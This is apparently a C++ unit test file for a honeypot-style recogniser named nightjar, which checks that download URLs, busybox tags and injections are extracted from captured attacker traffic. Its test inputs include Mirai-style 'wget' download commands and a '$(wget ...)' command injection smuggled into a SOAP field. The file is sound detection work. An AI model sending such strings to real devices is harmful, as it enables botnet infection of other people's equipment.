#include "payload/reading.hpp"

#include <gtest/gtest.h>

#include "payload/recogniser.hpp"

namespace nightjar {
namespace {

class ReadingTest : public ::testing::Test {
 protected:
  ReadingTest() : recogniser_(Recogniser::make(SignatureSet::load().value()).value()) {}

  Reading read(std::string client, bool ended = true, std::uint16_t port = 23) {
    Conversation conversation;
    conversation.port = port;
    conversation.client = std::move(client);
    conversation.turns = {{true, static_cast<std::uint32_t>(conversation.client.size())}};
    conversation.ended = ended;
    return read_conversation(conversation, recogniser_);
  }
  Recogniser recogniser_;
};

TEST_F(ReadingTest, NamesEachTagAndAddressOnce) {
  const Reading reading =
      read("wget http://192.0.2.1/a; wget http://192.0.2.1/ab; wget http://192.0.2.1/a\n/bin/busybox MIRAI\n/bin/busybox MIRAI\n");
  EXPECT_EQ(reading.urls, "http://192.0.2.1/a http://192.0.2.1/ab");
  EXPECT_EQ(reading.tags.find("busybox-token"), reading.tags.rfind("busybox-token"));
  EXPECT_NE(reading.tags.find("busybox-token"), std::string::npos);
}

TEST_F(ReadingTest, AnAddressAtTheEndIsCompleteOnlyIfTheConversationWasOver) {
  EXPECT_EQ(read("wget http://192.0.2.1/a", true).urls, "http://192.0.2.1/a");
  EXPECT_EQ(read("wget http://192.0.2.1/a", false).urls, "") << "it may have been http://192.0.2.1/abc";
}

TEST_F(ReadingTest, AnInjectionThatNoSignatureKnowsSaysSo) {
  const Reading reading =
      read("POST /unheard-of HTTP/1.1\r\nSOAPAction: \"urn:x#DoIt\"\r\n\r\n<NewThing>$(wget http://192.0.2.1/a)</NewThing>", true, 5000);
  EXPECT_EQ(reading.injections, "DoIt\tNewThing\t0");
  EXPECT_EQ(reading.urls, "http://192.0.2.1/a");
}

TEST_F(ReadingTest, ADatagramIsReadTheSameWay) {
  const std::string text = "AA cd /tmp; wget http://192.0.2.1/a";
  const Reading reading = read_datagram({reinterpret_cast<const std::uint8_t*>(text.data()), text.size()}, 53413, recogniser_);
  EXPECT_EQ(reading.urls, "http://192.0.2.1/a");
}

TEST_F(ReadingTest, OfNothingIsNothing) {
  const Reading reading = read("");
  EXPECT_EQ(reading.tags + reading.urls + reading.logins + reading.commands + reading.injections, "");
}

}  // namespace
}  // namespace nightjar
